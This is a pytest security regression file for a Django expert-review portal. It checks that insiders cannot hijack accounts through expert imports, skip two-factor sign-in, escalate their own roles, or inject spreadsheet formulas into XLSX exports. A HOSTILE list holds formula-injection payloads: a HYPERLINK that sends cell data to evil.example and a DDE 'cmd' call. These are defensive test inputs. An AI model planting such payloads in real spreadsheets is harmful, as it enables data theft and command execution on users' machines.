"""Issue 12: insiders cannot take over accounts, escalate, or unmask experts.

Each test attacks the portal the way a staff account would and fails on the code before the fix."""

import io
from datetime import timedelta

import pytest
from django.core import mail
from django.core.exceptions import PermissionDenied, ValidationError
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from django_otp.oath import totp
from django_otp.plugins.otp_static.models import StaticDevice
from django_otp.plugins.otp_totp.models import TOTPDevice
from openpyxl import Workbook

from portal.accounts.demo import DEMO_PASSWORD
from portal.accounts.models import Membership, Role, User
from portal.audit.models import AuditEvent
from review import services
from review.models import CandidateList, Conflict, ExpertProfile, Panel, PanelOpinion, ScoreSheet
from tests.applications.conftest import calls, gd_call  # noqa: F401
from tests.review.conftest import bulk_applications, extra_parks

pytestmark = pytest.mark.django_db


def verified_client(user) -> Client:
    """A client whose session passed the second factor (a recovery-code device)."""
    client = Client()
    client.force_login(user)
    device = StaticDevice.objects.create(user=user, name="test", confirmed=True)
    session = client.session
    session["otp_device_id"] = device.persistent_id
    session.save()
    return client


def _sign_in(client, username):
    response = client.post(reverse("login"), {"username": username, "password": DEMO_PASSWORD})
    assert response.status_code == 302
    return response


def _code(user):
    device = TOTPDevice.objects.filter(user=user).order_by("-pk").first()
    return f"{totp(device.bin_key, step=device.step, t0=device.t0, digits=device.digits):06d}"


def _enrol(user) -> TOTPDevice:
    return TOTPDevice.objects.create(user=user, name="phone", confirmed=True)


# --- 1. expert import never touches an account it did not create --------------------------------------

def _xlsx(rows):
    from review.imports import TEMPLATE_HEADERS

    workbook = Workbook()
    sheet = workbook.active
    sheet.append(TEMPLATE_HEADERS)
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    buffer.seek(0)
    buffer.name = "experts.xlsx"
    return buffer


def _row(username, name="攻击者", email="attacker@evil.example"):
    return [username, name, "教授", "华南师范大学", "广州", "软件和信息服务", "", email, 10, "是", ""]


@pytest.mark.parametrize("victim", ["park_huangpu", "sysadmin", "city_gz"])
def test_an_import_row_naming_another_account_is_refused_and_changes_nothing(client_for, user_named, victim):
    before = user_named(victim)
    memberships = set(Membership.objects.filter(user=before).values_list("pk", flat=True))
    response = client_for("gd_officer").post(reverse("review:experts"), {"file": _xlsx([_row(victim)])})
    assert response.status_code == 400
    row = response.context["report"]["rows"][0]
    assert row["result"] == "refused" and "用户名已被其他账号使用" in row["message"]
    assert "用户名已被其他账号使用" in response.content.decode()
    after = user_named(victim)
    assert (after.email, after.full_name) == (before.email, before.full_name)
    assert set(Membership.objects.filter(user=after).values_list("pk", flat=True)) == memberships
    assert not ExpertProfile.objects.filter(user=after).exists()
    event = AuditEvent.objects.get(verb="expert.import")
    assert event.data["refused_accounts"] == [victim]


def test_save_expert_from_any_caller_refuses_another_account(user_named):
    from portal.accounts.models import Organization

    employer = Organization.objects.get(name="广东省商务厅")
    with pytest.raises(ValidationError) as exc:
        services.save_expert(user_values={"username": "park_pazhou", "full_name": "x", "email": "x@evil.example"},
                             profile_values={"employer": employer}, actor=user_named("gd_officer"))
    assert "用户名已被其他账号使用" in " ".join(exc.value.messages)
    assert user_named("park_pazhou").email != "x@evil.example"
    with pytest.raises(PermissionDenied):  # and only an organiser may call it at all
        services.save_expert(user_values={"username": "new_one", "full_name": "x", "email": "x@evil.example"},
                             profile_values={"employer": employer}, actor=user_named("park_pazhou"))
    assert not User.objects.filter(username="new_one").exists()


def test_an_import_updates_a_pool_expert_but_not_the_name_or_email_of_the_account(client_for, user_named):
    expert = user_named("expert_chen")
    before = (expert.email, expert.full_name)
    response = client_for("gd_officer").post(reverse("review:experts"), {"file": _xlsx([_row("expert_chen")])})
    assert response.status_code == 200
    assert response.context["report"]["rows"][0]["result"] == "updated"
    expert.refresh_from_db()
    assert (expert.email, expert.full_name) == before
    assert ExpertProfile.objects.get(user=expert).max_load == 10


# --- 2. two-factor sign-in cannot be skipped -------------------------------------------------------------

@pytest.fixture
def two_factor_required(settings):
    settings.PORTAL_REQUIRE_2FA = True


def test_a_password_only_session_reaches_nothing_but_enrolment_and_verification(
        two_factor_required, client, user_named):
    admin, expert = user_named("sysadmin"), user_named("expert_chen")
    _enrol(admin)
    _enrol(expert)
    _sign_in(client, "sysadmin")
    for url in (reverse("password_change"), reverse("workspace-system"), reverse("admin:index"),
                reverse("workspace"), reverse("notifications")):
        response = client.get(url)
        assert response.status_code == 302 and response["Location"].startswith(reverse("two-factor")), url
    response = client.post(reverse("password_change"), {
        "old_password": DEMO_PASSWORD, "new_password1": "Neu@Passwort2026x", "new_password2": "Neu@Passwort2026x"})
    assert response.status_code == 302 and response["Location"].startswith(reverse("two-factor"))
    assert User.objects.get(username="sysadmin").check_password(DEMO_PASSWORD)
    # Not a device reset either: neither someone else's nor their own.
    for target in (expert, admin):
        response = client.post(reverse("two-factor-reset", args=[target.pk]))
        assert response.status_code in (302, 403)
        assert TOTPDevice.objects.filter(user=target).exists()
    assert client.get(reverse("two-factor")).status_code == 200


def test_a_device_reset_needs_a_verified_administrator_and_never_ones_own(user_named):
    admin, other_admin, expert = user_named("sysadmin"), user_named("sysadmin2"), user_named("expert_chen")
    _enrol(expert)
    unverified = Client()  # 2FA not required for this account yet: the middleware lets it through, the service not
    unverified.force_login(admin)
    response = unverified.post(reverse("two-factor-reset", args=[expert.pk]))
    assert response.status_code == 403 and "第二" in response.content.decode()
    assert TOTPDevice.objects.filter(user=expert).exists()
    _enrol(admin)
    verified = verified_client(admin)
    response = verified.post(reverse("two-factor-reset", args=[admin.pk]))
    assert response.status_code == 403 and "另一位系统管理员" in response.content.decode()
    assert TOTPDevice.objects.filter(user=admin).exists()
    assert AuditEvent.objects.filter(verb="2fa.reset_refused", actor=admin).count() == 2
    assert verified.post(reverse("two-factor-reset", args=[expert.pk])).status_code == 302
    assert not TOTPDevice.objects.filter(user=expert).exists()
    assert verified_client(other_admin).post(reverse("two-factor-reset", args=[admin.pk])).status_code == 302
    assert not TOTPDevice.objects.filter(user=admin).exists()


def test_password_change_for_staff_needs_a_verified_session(two_factor_required, client, user_named):
    user = user_named("gd_officer")
    _enrol(user)
    _sign_in(client, "gd_officer")
    assert client.get(reverse("password_change")).status_code == 302
    client.post(reverse("two-factor"), {"token": _code(user)})
    assert client.get(reverse("password_change")).status_code == 200


# --- 5. conflicts and windows hold everywhere ------------------------------------------------------------

@pytest.fixture
def panel_world(gd_call, user_named):  # noqa: F811
    from tests.review.test_expert_review import make_expert

    application = bulk_applications(gd_call, extra_parks("440600", 1, "佛山园区"), "formal_passed",
                                    user_named("park_huangpu"))[0]
    leader, member = make_expert(user_named("expert_li")), make_expert(user_named("expert_zhou"))
    panel = Panel.objects.create(call=gd_call, name="第一组", leader=leader)
    panel.members.set([leader, member])
    return {"application": application, "panel": panel, "leader": leader, "member": member, "call": gd_call}


def test_a_conflicted_panel_leader_cannot_write_the_opinion(panel_world, client_for, user_named):
    application, panel = panel_world["application"], panel_world["panel"]
    Conflict.objects.create(expert=panel_world["leader"], application=application, kind="declared_by_expert",
                            status=Conflict.Status.CONFIRMED, detail="曾任该园区顾问")
    with pytest.raises(PermissionDenied):
        services.record_panel_opinion(application=application, panel=panel, user=user_named("expert_li"),
                                      text="同意推荐")
    leader = client_for("expert_li")
    response = leader.post(reverse("review:panel-opinions", args=[panel_world["call"].pk]),
                           {"application": application.pk, "text": "同意推荐"})
    assert response.status_code == 403 and "利益冲突" in response.content.decode()
    assert not PanelOpinion.objects.exists()
    assert AuditEvent.objects.filter(verb="panel.opinion_refused", actor=user_named("expert_li")).count() == 2
    # Another member of the panel writes it instead (and the organiser may).
    member = client_for("expert_zhou")
    page = member.get(reverse("review:panel-opinions", args=[panel_world["call"].pk]))
    assert page.status_code == 200
    response = member.post(reverse("review:panel-opinions", args=[panel_world["call"].pk]),
                           {"application": application.pk, "text": "专家组同意推荐"})
    assert response.status_code == 302
    assert PanelOpinion.objects.get().author == user_named("expert_zhou")
    organiser = client_for("gd_officer")
    assert organiser.get(reverse("review:panel-opinions", args=[panel_world["call"].pk])).status_code == 200
    response = organiser.post(reverse("review:panel-opinions", args=[panel_world["call"].pk]),
                              {"application": application.pk, "panel": panel.pk, "text": "组织单位记录的意见"})
    assert response.status_code == 302
    assert PanelOpinion.objects.get().text == "组织单位记录的意见"


def test_a_member_cannot_write_while_the_leader_has_no_conflict(panel_world, user_named):
    with pytest.raises(PermissionDenied):
        services.record_panel_opinion(application=panel_world["application"], panel=panel_world["panel"],
                                      user=user_named("expert_zhou"), text="意见")


@pytest.fixture
def sheet_world(panel_world, user_named):
    services.ensure_default_rubric(panel_world["call"])
    assignment = services.assign_manually(application=panel_world["application"], experts=[panel_world["member"]],
                                          user=user_named("gd_officer"))[0]
    services.confirm_no_conflict(assignment=assignment, user=assignment.expert.user)
    return assignment


def _scores(assignment):
    return {str(c.pk): "5" for c in assignment.call.rubric.all()}


def test_after_the_deadline_only_a_sheet_the_organiser_reopened_with_a_reason_can_change(sheet_world, user_named):
    assignment, expert, officer = sheet_world, user_named("expert_zhou"), user_named("gd_officer")
    services.save_sheet(assignment=assignment, user=expert, scores=_scores(assignment), comment="", submit=True)
    call = assignment.call
    call.scoring_deadline = timezone.now() - timedelta(minutes=1)
    call.save(update_fields=["scoring_deadline"])
    sheet = ScoreSheet.objects.get()
    with pytest.raises(ValidationError):
        services.reopen_sheet(sheet=sheet, user=officer, reason="  ")
    services.reopen_sheet(sheet=sheet, user=officer, reason="总分计算有误，请复核")
    assert AuditEvent.objects.filter(verb="sheet.reopened", data__reason="总分计算有误，请复核").exists()
    services.save_sheet(assignment=assignment, user=expert, scores=_scores(assignment), comment="复核", submit=True)
    assert ScoreSheet.objects.get().comment == "复核"
    # Submitted again: the reopening is spent; a new change needs a new reopening.
    services.reopen_sheet(sheet=ScoreSheet.objects.get(), user=officer, reason="再次复核")
    services.save_sheet(assignment=assignment, user=expert, scores=_scores(assignment), comment="二次", submit=True)
    assert ScoreSheet.objects.get().reopened_reason == ""


def test_a_draft_sheet_is_locked_after_the_deadline_and_after_the_candidate_list_is_proposed(
        sheet_world, user_named, client_for):
    assignment, expert = sheet_world, user_named("expert_zhou")
    services.save_sheet(assignment=assignment, user=expert, scores=_scores(assignment), comment="草稿", submit=False)
    call = assignment.call
    call.scoring_deadline = timezone.now() - timedelta(minutes=1)
    call.save(update_fields=["scoring_deadline"])
    with pytest.raises(ValidationError) as exc:
        services.save_sheet(assignment=assignment, user=expert, scores=_scores(assignment), comment="改", submit=True)
    assert "截止" in " ".join(exc.value.messages)
    response = client_for("expert_zhou").post(reverse("review:task", args=[assignment.pk]), {
        "_action": "submit", "comment": "改", **{f"score_{k}": v for k, v in _scores(assignment).items()}})
    assert response.status_code == 400
    sheet = ScoreSheet.objects.get()
    assert sheet.status == "draft" and sheet.comment == "草稿"
    call.scoring_deadline = timezone.now() + timedelta(days=3)
    call.save(update_fields=["scoring_deadline"])
    CandidateList.objects.create(call=call, status=CandidateList.Status.PROPOSED)
    with pytest.raises(ValidationError) as exc:
        services.save_sheet(assignment=assignment, user=expert, scores=_scores(assignment), comment="改", submit=True)
    assert "候选名单" in " ".join(exc.value.messages)
    assert ScoreSheet.objects.get().comment == "草稿"


# --- 6. smaller holes --------------------------------------------------------------------------------------

def test_parks_have_an_idle_timeout_and_may_be_required_to_use_two_factor(client, settings, user_named):
    settings.PORTAL_REQUIRE_2FA = True
    settings.PARK_SESSION_IDLE_SECONDS = 5400
    _sign_in(client, "park_pazhou")
    assert client.get(reverse("workspace-park")).status_code == 200
    assert client.session.get_expiry_age() == 5400
    settings.PORTAL_REQUIRE_2FA_PARKS = True
    response = client.get(reverse("workspace-park"))
    assert response.status_code == 302 and response["Location"].startswith(reverse("two-factor"))


def test_password_reset_requests_are_limited_per_address_and_per_account(client, settings, user_named):
    settings.PASSWORD_RESET_LIMITS = {"per_email": 2, "per_ip": 5, "window_seconds": 3600}
    email = user_named("park_pazhou").email
    assert email
    for _ in range(2):
        assert client.post(reverse("password_reset"), {"email": email}).status_code == 302
    assert len(mail.outbox) == 2
    response = client.post(reverse("password_reset"), {"email": email.upper()})
    assert response.status_code == 429
    body = response.content.decode()
    assert "过于频繁" in body and "之后再试" in body
    assert len(mail.outbox) == 2
    # An address that has no account is limited the same way (the limit reveals nothing) …
    for _ in range(2):
        assert client.post(reverse("password_reset"), {"email": "nobody@example.com"}).status_code == 302
    # … and the client address has its own limit across e-mail addresses.
    response = client.post(reverse("password_reset"), {"email": "other@example.com"})
    assert response.status_code == 429
    assert AuditEvent.objects.filter(verb="password_reset.limited").count() == 2


HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"]


def test_text_in_every_xlsx_export_is_never_a_formula(sheet_world, user_named):
    from openpyxl import load_workbook

    from review.exports import expert_template_xlsx, ranking_xlsx

    assignment, officer, expert = sheet_world, user_named("gd_officer"), user_named("expert_zhou")
    call = assignment.call
    services.save_rubric(call=call, user=officer, rows=[
        {"name": HOSTILE[0], "max_points": 50}, {"name": HOSTILE[3], "max_points": 50}])
    scores = {str(c.pk): "40" for c in call.rubric.all()}
    services.save_sheet(assignment=assignment, user=expert, scores=scores, comment=HOSTILE[1], submit=True)
    park = assignment.application.park
    park.name = HOSTILE[2] + "园区"
    park.save(update_fields=["name"])
    PanelOpinion.objects.create(application=assignment.application, panel=Panel.objects.get(), text=HOSTILE[3] + "意见",
                                author=expert)
    workbook = load_workbook(io.BytesIO(ranking_xlsx(call)))
    texts = [cell for ws in workbook.worksheets for row in ws.iter_rows() for cell in row
             if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@"))]
    found = {cell.value for cell in texts}
    assert {HOSTILE[1], HOSTILE[2] + "园区", HOSTILE[3] + "意见"} <= found
    assert any(v.startswith(HOSTILE[0]) for v in found) and any(v.startswith(HOSTILE[3] + "（") for v in found)
    for cell in texts:
        assert cell.data_type == "s" and cell.quotePrefix, (cell.coordinate, cell.value)
    # The import template goes through the same helper.
    template = load_workbook(io.BytesIO(expert_template_xlsx()))
    assert all(c.data_type != "f" for ws in template.worksheets for row in ws.iter_rows() for c in row)


def test_the_cell_helper_keeps_numbers_and_escapes_text():
    from openpyxl import Workbook

    from portal.xlsx import safe_row

    ws = Workbook().active
    row = safe_row(ws, [-5, "普通文字", "=1+1", "\t=2", None])
    assert row[0] == -5 and row[1] == "普通文字" and row[4] is None
    assert row[2].data_type == "s" and row[2].value == "=1+1" and row[2].quotePrefix
    assert row[3].data_type == "s"


# --- 4. each audience sees the history meant for it --------------------------------------------------------

from tests.security.test_permission_matrix import world  # noqa: E402, F401 - one application through every stage


def _history_rows(response) -> list[tuple[str, str, str | None]]:
    return [(r.actor, r.action, r.ip_address) for r in response.context["history"]]


def test_the_park_sees_its_own_events_and_the_decisions_addressed_to_it_only(world, client_for, user_named, rf):  # noqa: F811, E501
    from applications.models import Application
    from portal.audit.services import record_event

    application = Application.objects.get(pk=world["application"])
    officer = user_named("gd_officer")
    request = rf.get("/", REMOTE_ADDR="203.0.113.9")
    request.user = officer
    record_event(verb="application.attachment_downloaded", target=application, request=request,
                 organization=application.call.organiser, data={"attachment": world["attachment"]})
    url = reverse("applications:detail", args=[application.pk])

    park = client_for("park_huangpu").get(url)
    assert park.status_code == 200
    rows = _history_rows(park)
    body = park.content.decode()
    actions = {action for _actor, action, _ip in rows}
    assert {"提交申报", "已退回修改", "通过初审", "形式审查通过", "推荐至省级"} <= actions, actions
    for hidden in ("李教授", "陈教授", "203.0.113.9", "下载", "评分表", "专家", "IP"):
        assert hidden not in body.split('data-testid="history"')[1], hidden
    actors = {actor for actor, _action, _ip in rows}
    assert "刘文静" not in actors and "王建华" not in actors  # the deciding body is named, not the officer
    assert "广州市商务局" in actors and "广东省商务厅" in actors
    assert all(ip is None for _a, _b, ip in rows)

    city = _history_rows(client_for("city_gz").get(url))
    assert city and not any("评分表" in action or "李教授" == actor for actor, action, _ip in city)
    assert all(ip is None for _a, _b, ip in city)

    organiser = _history_rows(client_for("gd_officer").get(url))
    assert ("李教授", "提交评分表", None) in organiser
    assert ("王建华", "下载附件", "203.0.113.9") in organiser


def test_every_history_view_uses_the_one_selector():
    """No template or view reads the raw log for a page: they go through history_visible_to."""
    from pathlib import Path

    root = Path(__file__).resolve().parents[2]
    offenders = [str(p) for folder in ("applications", "review", "publicity", "portal/home")
                 for p in (root / folder).rglob("views*.py") if "history_of(" in p.read_text()]
    assert offenders == []


# --- 3. a system administrator is not a superuser and cannot make one ------------------------------------

def test_a_system_administrator_has_no_django_admin_access(client_for, user_named):
    from django.contrib.auth.models import Group

    from portal.accounts.services import add_membership

    admin = user_named("sysadmin")
    assert not admin.is_staff and not admin.is_superuser and not admin.groups.exists()
    response = client_for("sysadmin").get(reverse("admin:index"))
    assert response.status_code == 302 and reverse("admin:login") in response["Location"]
    assert client_for("sysadmin").get(reverse("admin:accounts_user_changelist")).status_code == 302
    # Granting the role does not make anyone staff either.
    add_membership(user=user_named("expert_xu"), organization=admin.memberships.get().organization, role="sysadmin",
                   actor=user_named("sysadmin2"))
    assert not User.objects.get(username="expert_xu").is_staff
    assert not Group.objects.filter(permissions__isnull=False, user__username="expert_xu").exists()


def test_the_portal_screens_cannot_set_superuser_staff_groups_or_permissions(client_for, user_named):
    c = client_for("sysadmin")
    target = user_named("expert_chen")
    response = c.post(reverse("system:user", args=[target.pk]), {
        "full_name": "陈教授", "email": "chen@example.edu.cn", "phone": "", "is_superuser": "on", "is_staff": "on",
        "groups": "1", "user_permissions": "1"})
    assert response.status_code == 302
    target.refresh_from_db()
    assert target.email == "chen@example.edu.cn"
    assert not target.is_superuser and not target.is_staff
    assert not target.groups.exists() and not target.user_permissions.exists()
    event = AuditEvent.objects.get(verb="user.updated", target_id=str(target.pk))
    assert event.actor == user_named("sysadmin") and event.data["email"][1] == "chen@example.edu.cn"
    response = c.post(reverse("system:user-new"), {"username": "new_officer", "full_name": "新同事",
                                                   "email": "n@gd.gov.cn", "is_superuser": "on", "is_staff": "on"})
    assert response.status_code == 302
    new = User.objects.get(username="new_officer")
    assert not new.is_superuser and not new.is_staff and not new.groups.exists()
    assert AuditEvent.objects.filter(verb="user.created", target_id=str(new.pk)).exists()


def test_roles_are_granted_and_removed_only_through_the_audited_services(client_for, user_named):
    from portal.accounts.models import Organization

    c = client_for("sysadmin")
    target = user_named("expert_chen")
    park = Organization.objects.get(name="广州开发区（黄埔区）数字经济产业园管理委员会")
    response = c.post(reverse("system:membership-add", args=[target.pk]),
                      {"organization": park.pk, "role": Role.PARK_ADMIN})
    assert response.status_code == 302
    membership = Membership.objects.get(user=target, role=Role.PARK_ADMIN)
    assert AuditEvent.objects.filter(verb="membership.added", target_id=str(target.pk),
                                     actor=user_named("sysadmin")).exists()
    # A role that does not fit the organisation: a Chinese message, 400, nothing granted.
    response = c.post(reverse("system:membership-add", args=[target.pk]),
                      {"organization": park.pk, "role": Role.CITY_REVIEWER})
    assert response.status_code == 400 and "不能" in response.content.decode()
    assert not Membership.objects.filter(user=target, role=Role.CITY_REVIEWER).exists()
    assert c.post(reverse("system:membership-remove", args=[membership.pk])).status_code == 302
    membership.refresh_from_db()
    assert not membership.is_active
    assert AuditEvent.objects.filter(verb="membership.removed", target_id=str(target.pk)).exists()
    assert client_for("expert_chen").get(reverse("workspace-park")).status_code in (403, 404)


def test_an_administrator_cannot_change_their_own_roles_or_deactivate_themselves(client_for, user_named):
    from portal.accounts.models import Organization

    admin = user_named("sysadmin")
    c = client_for("sysadmin")
    park = Organization.objects.get(name="广州开发区（黄埔区）数字经济产业园管理委员会")
    response = c.post(reverse("system:membership-add", args=[admin.pk]), {"organization": park.pk,
                                                                            "role": Role.PARK_ADMIN})
    assert response.status_code == 403 and "另一位系统管理员" in response.content.decode()
    assert not Membership.objects.filter(user=admin, role=Role.PARK_ADMIN).exists()
    assert c.post(reverse("system:membership-remove", args=[admin.memberships.get().pk])).status_code == 403
    assert c.post(reverse("system:user-active", args=[admin.pk]), {"active": "0"}).status_code == 403
    admin.refresh_from_db()
    assert admin.is_active and admin.memberships.filter(is_active=True).count() == 1
    assert AuditEvent.objects.filter(verb="membership.refused", actor=admin).count() == 2


def test_a_superuser_account_cannot_be_taken_over_from_the_portal(client_for):
    root = User.objects.create_superuser("root", "root@example.com", "x")
    c = client_for("sysadmin")
    response = c.post(reverse("system:user", args=[root.pk]), {"full_name": "x", "email": "evil@example.com"})
    assert response.status_code == 403
    root.refresh_from_db()
    assert root.email == "root@example.com"
    assert c.post(reverse("system:user-active", args=[root.pk]), {"active": "0"}).status_code == 403


def test_a_deactivated_account_is_signed_out_and_cannot_sign_in(client_for, user_named, client):
    expert = client_for("expert_chen")
    assert expert.get(reverse("workspace-expert")).status_code == 200
    response = client_for("sysadmin").post(reverse("system:user-active", args=[user_named("expert_chen").pk]),
                                           {"active": "0"})
    assert response.status_code == 302
    assert expert.get(reverse("workspace-expert")).status_code == 302  # to sign in
    assert client.post(reverse("login"), {"username": "expert_chen", "password": DEMO_PASSWORD}).status_code == 200
    assert AuditEvent.objects.filter(verb="user.deactivated").exists()


def test_organisations_and_the_working_day_calendar_are_edited_in_the_portal(client_for):
    from datetime import date

    from portal.accounts.models import Organization
    from portal.workdays import is_workday
    from portal.workdays.models import WorkdayOverride

    c = client_for("sysadmin")
    response = c.post(reverse("system:organization-new"), {"name": "测试园区管理委员会", "kind": "park", "region": "",
                                                           "credit_code": "91350100M000100Y44"})
    assert response.status_code == 400 and "校验" in response.content.decode()
    assert not Organization.objects.filter(name="测试园区管理委员会").exists()
    response = c.post(reverse("system:organization-new"), {"name": "测试园区管理委员会", "kind": "park", "region": "",
                                                           "credit_code": "91350100M000100Y43"})
    assert response.status_code == 302
    assert AuditEvent.objects.filter(verb="organization.created").exists()
    saturday = date(2026, 12, 26)  # a known year: the override takes precedence over the library
    assert not is_workday(saturday)
    assert c.post(reverse("system:workdays"), {"date": "2026-12-26", "is_workday": "1",
                                               "note": "调休上班"}).status_code == 302
    assert is_workday(saturday)
    override = WorkdayOverride.objects.get(date=saturday)
    assert c.post(reverse("system:workdays"), {"date": "", "is_workday": "1"}).status_code == 400
    assert c.post(reverse("system:workday-delete", args=[override.pk])).status_code == 302
    assert not WorkdayOverride.objects.exists()
    assert AuditEvent.objects.filter(verb__in=["workday.saved", "workday.deleted"]).count() == 2


def test_the_audit_log_reads_in_chinese_filters_and_pages_in_constant_queries(client_for, user_named):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    from portal.audit.services import record_event

    officer, chen = user_named("gd_officer"), user_named("expert_chen")
    c = client_for("sysadmin")
    record_event(verb="membership.added", actor=officer, target=chen, data={"role": "expert"})
    page = c.get(reverse("system:audit"))
    assert page.status_code == 200 and "授予角色" in page.content.decode()

    def queries(n_events):
        for _ in range(n_events):
            record_event(verb="application.section_saved", actor=officer, target=chen)
        with CaptureQueriesContext(connection) as ctx:
            assert c.get(reverse("system:audit"), {"verb": "application.section_saved"}).status_code == 200
        return len(ctx)

    assert queries(3) == queries(60)
    filtered = c.get(reverse("system:audit"), {"actor": "gd_officer", "target": str(chen.pk),
                                               "verb": "membership.added", "date_from": "2020-01-01"})
    rows = filtered.context["rows"]
    assert [r["event"].verb for r in rows] == ["membership.added"]
    assert c.get(reverse("system:audit"), {"date_from": "不是日期"}).status_code == 400
    assert client_for("gd_officer").get(reverse("system:audit")).status_code == 403
